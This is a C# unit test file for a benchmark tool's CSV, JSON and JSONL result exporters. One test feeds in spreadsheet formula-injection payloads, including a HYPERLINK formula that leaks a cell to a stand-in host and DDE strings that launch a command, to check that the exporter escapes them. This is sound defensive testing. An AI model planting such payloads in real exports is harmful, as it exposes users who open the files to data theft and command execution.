using System.Text.Json;
using ValidationLab.Core.Tests.Support;
using ValidationLab.Output;
using ValidationLab.Results;

namespace ValidationLab.Core.Tests.Output;

public sealed class WriterTests
{
    private static async Task<string> Render(ValidationLab.Exporters.IRunExporter exporter, RunResult run, IReadOnlyList<ItemResult> items)
    {
        using var stream = new MemoryStream();
        await exporter.WriteAsync(run, items, stream, CancellationToken.None);
        return System.Text.Encoding.UTF8.GetString(stream.ToArray());
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task Should_Escape_Formula_Injection_In_Items_Csv(string hostile)
    {
        // Given
        var items = new[] { Runs.Item("medqa", "q1", false, response: hostile) };

        // When
        var csv = await Render(new ItemsCsvExporter(), Runs.Result("r", "m"), items);

        // Then: the cell never begins with the formula character, quoted or not
        var row = csv.Split('\n')[1];
        Assert.DoesNotContain("," + hostile[0], row, StringComparison.Ordinal);
        Assert.DoesNotContain(",\"" + hostile[0], row, StringComparison.Ordinal);
        Assert.Contains("'" + hostile[0], row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Should_Leave_A_Negative_Score_As_A_Number_In_Items_Csv()
    {
        // Given: a suite score may be negative (a log-likelihood margin); it is a number, not a formula
        var items = new[] { Runs.Item("medqa", "q1", true) with { Score = -0.5 } };

        // When
        var csv = await Render(new ItemsCsvExporter(), Runs.Result("r", "m"), items);

        // Then
        Assert.Contains(",-0.5,", csv.Split('\n')[1], StringComparison.Ordinal);
        Assert.DoesNotContain("'-0.5", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Should_Quote_Newlines_Commas_And_Quotes_In_Items_Csv()
    {
        // Given
        var items = new[] { Runs.Item("medqa", "q1", true, response: "line one\nline \"two\", done") };

        // When
        var csv = await Render(new ItemsCsvExporter(), Runs.Result("r", "m"), items);

        // Then
        Assert.EndsWith(",\"line one\nline \"\"two\"\", done\"\n", csv, StringComparison.Ordinal);
        Assert.StartsWith("suite,item_id,cluster_id,status,correct,prediction,gold,score,latency_ms,prompt_hash,error,explanation,response\n", csv, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Should_Add_Strata_As_Sorted_Columns_In_Items_Csv()
    {
        // Given
        var strata = new SortedDictionary<string, string>(StringComparer.Ordinal) { ["meta_info"] = "step1", ["band"] = "x" };
        var items = new[] { Runs.Item("medqa", "q1", true, strata: strata), Runs.Item("medqa", "q2", null) };

        // When
        var lines = (await Render(new ItemsCsvExporter(), Runs.Result("r", "m"), items)).Split('\n');

        // Then
        Assert.EndsWith(",response,band,meta_info", lines[0], StringComparison.Ordinal);
        Assert.EndsWith(",x,step1", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("medqa,q2,,errored,,", lines[2], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Should_Write_Suite_Metrics_With_Value_Interval_N_And_Method_In_Results_Json()
    {
        // Given
        var suite = new SuiteResult
        {
            Suite = "medqa",
            Mode = "generate",
            Counts = new SuiteCounts(10, 9, 1, 0),
            Metrics = new SortedDictionary<string, MetricValue>(StringComparer.Ordinal)
            {
                ["accuracy"] = new(0.7, 0.4, 0.9, 10, "Wilson 95% CI"),
                ["n_items"] = new(10, null, null, 10, "count"),
            },
        };
        var run = Runs.Result("r", "m", new SortedDictionary<string, SuiteResult>(StringComparer.Ordinal) { ["medqa"] = suite });

        // When
        using var json = JsonDocument.Parse(await Render(new ResultsJsonExporter(), run, []));

        // Then
        var metrics = json.RootElement.GetProperty("suites").GetProperty("medqa").GetProperty("metrics");
        var accuracy = metrics.GetProperty("accuracy");
        Assert.Equal(0.7, accuracy.GetProperty("value").GetDouble());
        Assert.Equal(0.4, accuracy.GetProperty("ci_low").GetDouble());
        Assert.Equal(0.9, accuracy.GetProperty("ci_high").GetDouble());
        Assert.Equal(10, accuracy.GetProperty("n").GetInt32());
        Assert.Equal("Wilson 95% CI", accuracy.GetProperty("method").GetString());
        Assert.Equal(JsonValueKind.Null, metrics.GetProperty("n_items").GetProperty("ci_low").ValueKind);
        var counts = json.RootElement.GetProperty("suites").GetProperty("medqa").GetProperty("counts");
        Assert.Equal(1, counts.GetProperty("unparseable").GetInt32());
        Assert.Equal("1.0", json.RootElement.GetProperty("schema_version").GetString());
    }

    [Fact]
    public async Task Should_Write_One_Snake_Case_Object_Per_Line_In_Items_Jsonl()
    {
        // Given
        var items = new[] { Runs.Item("medqa", "q1", true, response: "a\nb"), Runs.Item("medqa", "q2", null) };

        // When
        var lines = (await Render(new ItemsJsonlExporter(), Runs.Result("r", "m"), items)).Split('\n');

        // Then
        Assert.Equal(3, lines.Length);
        Assert.Equal("", lines[2]);
        using var second = JsonDocument.Parse(lines[1]);
        Assert.Equal("errored", second.RootElement.GetProperty("status").GetString());
        Assert.Equal(JsonValueKind.Null, second.RootElement.GetProperty("correct").ValueKind);
        Assert.Equal("q2", second.RootElement.GetProperty("item_id").GetString());
    }
}
